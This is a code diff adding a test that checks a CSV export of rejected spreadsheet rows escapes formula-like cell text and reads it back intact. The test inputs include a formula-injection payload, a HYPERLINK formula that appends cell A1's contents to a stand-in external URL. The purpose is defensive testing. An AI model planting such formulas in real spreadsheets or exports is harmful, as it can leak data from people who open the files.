@@ -2,6 +2,7 @@ import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { type TableName, tableNames, tables } from '../src/operator/tables/columns.js'
 import { csvRow, openCsv } from '../src/operator/tables/csv.js'
+import { rejectedCsv } from '../src/operator/tables/import-table.js'
 import { templateCsv, templateXlsx } from '../src/operator/tables/template.js'
 import { rowsOf } from '../src/operator/tables/write.js'
 import { openXlsx, writeXlsx } from '../src/operator/tables/xlsx.js'
@@ -256,6 +257,20 @@ test('--skip-invalid keeps the good records, and only whole ones', async () => {
   expect((await call('listLocations')).body).toEqual([
     { id: 2, contacts: [{ name: 'C' }], requires_appointment: false },
   ])
+})
+
+test('a text of a workbook does not become a formula of the rejected rows, and is read back from them as it was', async () => {
+  const cities = ['=HYPERLINK("https://x.example/"&A1)', '-2+3', "'=4", 'a;@SUM(A1)', '-12.5']
+  const data = [['id', 'city'], ...cities.map((city) => ['bad', city])]
+  const sheets = await openXlsx(await xlsxOf([{ sheet: 'One', data }]))
+  let csv = ''
+  for await (const text of rejectedCsv('locations', sheets, new Set([1, 2]))) csv += text
+  expect(csv).toContain(',"\'=HYPERLINK(""https://x.example/""&A1)",')
+  expect(csv).not.toMatch(/[,;"\n](?!-12\.5,)[=+@-]/)
+  const [table] = await openCsv(csvBytes(csv))
+  const read: unknown[] = []
+  for await (const { cells } of table?.rows ?? []) read.push(cells[4])
+  expect(read).toEqual(cities)
 })
 
 test('a record whose rows are apart is a fault: its first rows would be lost', async () => {
